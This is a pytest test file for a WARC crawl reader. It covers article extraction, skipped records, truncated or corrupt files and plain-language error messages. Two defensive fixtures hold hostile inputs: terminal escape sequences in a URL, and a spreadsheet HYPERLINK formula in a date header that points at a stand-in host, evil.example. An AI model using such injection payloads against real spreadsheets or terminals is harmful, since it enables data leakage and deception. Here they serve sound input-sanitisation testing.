"""WARC reader: HTML responses become articles with URL ids; the rest is skipped and counted."""

from __future__ import annotations

import dataclasses
import gzip
import re
import subprocess
import sys

import pytest
from click.testing import CliRunner

from provenance.cli import main
from provenance.ingest import read_corpus
from provenance.ingest.warc import WarcReader, looks_like_warc
from provenance.model import Article, Skipped
from tests.fixtures import HOST, seed_pages, write_warc

URLS = sorted(page.url for page in seed_pages())


def test_pages_have_url_ids_and_crawl_date(crawl):
    articles, skipped = read_corpus([crawl])
    assert [a.id for a in articles] == URLS
    for article in articles:
        assert article.url == article.id
        assert article.crawled == "2023-10-02T08:00:00Z"
        assert article.site == HOST
        # The crawl date is never taken as the publication date.
        assert article.published != "2023-10-02"
        assert article.path.startswith(f"{crawl}#")
    by_id = {a.id: a for a in articles}
    assert by_id[f"https://{HOST}/2023/09/14/north-korean-leader-holds-talks-with-russian-president/"].published_from == "url"


def test_non_html_and_truncated_records_are_skipped_and_counted(crawl):
    _, skipped = read_corpus([crawl])
    assert [(s.path, s.reason.split(" ")[0]) for s in skipped] == [
        (f"{crawl}#10", "text/css"),
        (f"{crawl}#11", "image/jpeg"),
        (f"{crawl}#12", "truncated"),
    ]


@pytest.mark.parametrize("name", ["cut.warc.gz", "cut.warc"])
def test_truncated_file_never_crashes_and_keeps_records_before_the_break(tmp_path, name):
    whole = tmp_path / ("whole" + name[3:])
    write_warc(whole, truncate=False)
    data = whole.read_bytes()
    cut = tmp_path / name
    counts = []
    for end in range(0, len(data), len(data) // 40):
        cut.write_bytes(data[:end])
        items = list(WarcReader().read(cut, name))
        pages = [item.id for item in items if isinstance(item, Article)]
        assert pages == [page.url for page in seed_pages()][: len(pages)]  # a prefix, in crawl order
        counts.append(len(pages))
    assert counts == sorted(counts) and counts[0] == 0 and counts[-1] == 4


@pytest.mark.parametrize("name", ["cut.warc.gz", "cut.warc"])
def test_a_file_cut_inside_its_last_records_headers_says_so(tmp_path, name):
    # warcio ended quietly there, and the record was lost unreported.
    from warcio.archiveiterator import ArchiveIterator

    whole = tmp_path / ("whole" + name[3:])
    write_warc(whole, truncate=False)
    data = whole.read_bytes()
    with whole.open("rb") as stream:
        archive = ArchiveIterator(stream)
        starts = [archive.offset for _ in archive]
    cut = tmp_path / name
    for end in range(starts[-1] + 20, min(starts[-1] + 400, len(data)), 7):
        cut.write_bytes(data[:end])
        items = list(WarcReader().read(cut, name))
        reasons = [item.reason for item in items if isinstance(item, Skipped)]
        assert any("truncated" in reason or "broken" in reason for reason in reasons), (end, reasons)
        assert len([item for item in items if isinstance(item, Article)]) == 4


def test_broken_bytes_inside_are_a_skipped_record(tmp_path, crawl):
    data = crawl.read_bytes()
    broken = tmp_path / "broken.warc.gz"
    broken.write_bytes(data[:2000] + b"\x00garbage\x00" * 40 + data[2000:])
    items = list(WarcReader().read(broken, "broken.warc.gz"))
    # The record the garbage is in is lost; reading resumes at the next record (it stopped there).
    assert isinstance(items[0], Skipped) and re.match(r"broken record at byte \d{3}: ", items[0].reason)
    assert [item.id for item in items if isinstance(item, Article)] == [page.url for page in seed_pages()][1:]


def test_sniffed_by_content(tmp_path, crawl):
    renamed = tmp_path / "crawl-2023-10-02.bin"
    renamed.write_bytes(crawl.read_bytes())
    articles, skipped = read_corpus([renamed])
    assert [a.id for a in articles] == URLS and len(skipped) == 3
    assert looks_like_warc(b"WARC/1.1\r\nWARC-Type: warcinfo")
    assert not looks_like_warc(b"\x1f\x8b\x08\x00not really")


def test_scan_counts_skipped_records_on_stderr(crawl):
    result = CliRunner().invoke(main, ["scan", str(crawl), "--workers", "1"])
    assert result.exit_code == 0, result.output
    assert "skipped " + f"{crawl}#11: image/jpeg" in result.stderr
    assert "4 articles" in result.stderr and "3 skipped" in result.stderr


def test_a_uri_with_spaces_and_escapes_prints_nothing_raw(tmp_path):
    # warcio logs such a URI raw: Python printed the warning to stderr, escapes and all.
    pages = [dataclasses.replace(page, url=page.url + "a b\x1b]0;PWNED\x07\x1b[31m") if k == 0 else page
             for k, page in enumerate(seed_pages())]
    path = tmp_path / "hostile.warc"
    write_warc(path, pages, truncate=False)
    done = subprocess.run([sys.executable, "-m", "provenance.cli", "scan", str(path)], capture_output=True, text=True, timeout=300)
    assert done.returncode == 0, done.stderr
    assert "\x1b" not in done.stderr and "Replacing spaces" not in done.stderr, done.stderr


def test_a_crawl_date_that_is_no_timestamp_is_left_out(tmp_path):
    # The WARC-Date went into reports as sent: the audit CSV's "crawled" cell held a spreadsheet
    # formula, and a terminal escape reached the CSV raw.
    path = tmp_path / "crawl.warc"
    write_warc(path, seed_pages(), truncate=False)
    data = path.read_bytes()
    dates = [b'=HYPERLINK("http://evil.example/?"&A1,"Click")', b"\x1b]0;PWNED\x07 2023", b"2023-10-02T25:00:00Z",
             b"2023-10-02T08:00:00.5+02:00"]
    for date in dates:
        data = data.replace(b"WARC-Date: 2023-10-02T08:00:00Z\r\nWARC-Type: response", b"WARC-Date: " + date + b"\r\nWARC-Type: response", 1)
    path.write_bytes(data)
    articles, skipped = read_corpus([path])
    assert all(item.reason.endswith("not an HTML page") for item in skipped)
    assert sorted(a.crawled or "-" for a in articles) == ["-", "-", "-", "2023-10-02T08:00:00.5+02:00", *["2023-10-02T08:00:00Z"] * (len(articles) - 4)]


def _records(path):
    """The byte offset where each record of a WARC file starts, and the file's bytes."""
    from warcio.archiveiterator import ArchiveIterator

    with path.open("rb") as stream:
        archive = ArchiveIterator(stream)
        starts = [archive.offset for _ in archive]
    return starts, path.read_bytes()


# What a message must never show: Python's or warcio's own words, raw bytes, a list.
_INTERNALS = ("NoneType", "object has no", "Error", "Exception", "first line", "[", "\\x", "Traceback")


def _damaged(data, starts, how):
    """The crawl's bytes damaged one way; records 0-10 are warcinfo, then a request and a response
    per page (responses 2, 4, 6, 8), then CSS (9) and JPEG (10)."""
    k = 4  # the second page's response
    start, end = starts[k], starts[k + 1]
    if how == "junk between records":
        return data[:start] + b"junk between records\r\n\x00\x01" * 3 + data[start:]
    if how == "headers overwritten":
        return data[:start + 3] + b"\xff\xfe garbage \x00" + data[start + 16:]
    if how == "record's middle overwritten":
        middle = (start + end) // 2
        return data[:middle] + b"\x00\xff" * 10 + data[middle + 20:]
    if how == "no WARC/1.0 line":
        return _edited(data, start, end, lambda text: text.replace(b"WARC/1.0\r\n", b"", 1))
    # On the request before the page: too large, it swallows the rest.
    length = {"Content-Length too large": b"99999999", "Content-Length not a number": b"-5"}[how]
    return _edited(data, starts[k - 1], starts[k], lambda text: re.sub(rb"Content-Length: \d+", b"Content-Length: " + length, text, count=1))


def _edited(data, start, end, change):
    """``data`` with ``change`` made to the record at ``data[start:end]``, inside its gzip member if it has one."""
    record = data[start:end]
    if record.startswith(b"\x1f\x8b"):
        return data[:start] + gzip.compress(change(gzip.decompress(record))) + data[end:]
    return data[:start] + change(record) + data[end:]


@pytest.mark.parametrize("name", ["hostile.warc.gz", "hostile.warc"])
@pytest.mark.parametrize("how", [
    "junk between records", "headers overwritten", "record's middle overwritten", "no WARC/1.0 line",
    "Content-Length too large", "Content-Length not a number",
])
def test_damage_costs_only_the_damaged_record_and_is_said_in_plain_words(tmp_path, name, how):
    # Reading stopped at the damage (every page after it lost), and the message was warcio's:
    # "Unknown archive format, first line: ['junk', 'between', 'records']".
    whole = tmp_path / ("whole" + name[7:])
    write_warc(whole, truncate=False)
    starts, data = _records(whole)
    path = tmp_path / name
    path.write_bytes(_damaged(data, starts, how))
    items = list(WarcReader().read(path, name))
    gz = name.endswith(".gz")
    # The second page is lost where its own record is damaged; in a plain file, bytes overwritten
    # inside a page are only a few wrong characters, and in a gzipped one a gzip member holds a
    # request record in whatever its Content-Length says.
    lost = how in ("headers overwritten", "no WARC/1.0 line") or (gz and how == "record's middle overwritten")
    urls = [page.url for page in seed_pages()]
    assert [item.id for item in items if isinstance(item, Article)] == urls[:1] + urls[1 + lost:], how
    reasons = [item.reason for item in items if isinstance(item, Skipped) and " at byte " in item.reason]
    silent = how == "record's middle overwritten" and not gz or how == "Content-Length too large" and gz
    assert len(reasons) == (0 if silent else 1), [item for item in items if isinstance(item, Skipped)]
    for reason in reasons:
        assert "re-download or re-crawl" in reason and "reading resumes at the next record" in reason, reason
        assert not any(word in reason for word in _INTERNALS), reason


@pytest.mark.parametrize("name", ["cut.warc.gz", "cut.warc"])
def test_a_file_cut_or_garbled_anywhere_says_so_in_plain_words(tmp_path, name):
    # A .warc.gz cut inside a record's headers said "'NoneType' object has no attribute 'startswith'".
    import random

    whole = tmp_path / ("whole" + name[3:])
    write_warc(whole, truncate=False)
    starts, data = _records(whole)
    cut = tmp_path / name
    damaged = [data[:end] for start in starts for end in range(start + 1, min(start + 800, len(data)), 29)]
    rng = random.Random(5)
    for _ in range(40):
        at = rng.randrange(len(data))
        damaged.append(data[:at] + bytes(rng.randrange(256) for _ in range(rng.randrange(1, 40))) + data[at + 20:])
    for blob in damaged:
        cut.write_bytes(blob)
        for item in WarcReader().read(cut, name):
            if isinstance(item, Skipped) and item.reason.startswith(("broken", "truncated")):
                assert " at byte " in item.reason and not any(word in item.reason for word in _INTERNALS) and "\n" not in item.reason, item.reason


def test_a_corrupt_gzip_member_prints_nothing_of_zlibs_and_the_rest_is_read(tmp_path):
    # warcio wrote zlib's "Error -3 while decompressing data: ..." to stderr, in no form of ours.
    whole = tmp_path / "whole.warc.gz"
    write_warc(whole, truncate=False)
    starts, data = _records(whole)
    member = bytearray(data[starts[4]:starts[5]])
    for k in range(len(member) // 2, len(member) // 2 + 8):
        member[k] ^= 0x55
    path = tmp_path / "corrupt.warc.gz"
    path.write_bytes(data[:starts[4]] + bytes(member) + data[starts[5]:])
    done = subprocess.run([sys.executable, "-m", "provenance.cli", "scan", str(path)], capture_output=True, text=True, timeout=300)
    assert done.returncode == 0, done.stderr
    assert "Error" not in done.stderr and "Traceback" not in done.stderr, done.stderr
    assert f"skipped {path}#5: broken record at byte {starts[4]:,}: " in done.stderr, done.stderr
    assert "3 articles" in done.stderr, done.stderr


def test_a_crawl_gzipped_as_one_stream_is_read_whole(tmp_path):
    # `gzip crawl.warc` makes one gzip stream where a WARC has a member per record: warcio read its
    # first record and stopped ("non-chunked gzip"), losing every page after it.
    plain, whole = tmp_path / "crawl.warc", tmp_path / "whole.warc.gz"
    write_warc(plain, seed_pages(), truncate=False)
    whole.write_bytes(gzip.compress(plain.read_bytes()))
    expected, expected_skipped = read_corpus([plain])
    articles, skipped = read_corpus([whole])
    assert [(a.id, a.text, a.crawled) for a in articles] == [(a.id, a.text, a.crawled) for a in expected] and len(articles) == 4
    assert [s.reason for s in skipped] == [s.reason for s in expected_skipped]
    # A WARC as it should be (a member per record) is not taken for one.
    from provenance.ingest.warc import _one_gzip_stream

    members = tmp_path / "members.warc.gz"
    write_warc(members, seed_pages(), truncate=False)
    with members.open("rb") as stream:
        assert members.read_bytes()[:2] == b"\x1f\x8b" and not _one_gzip_stream(stream)
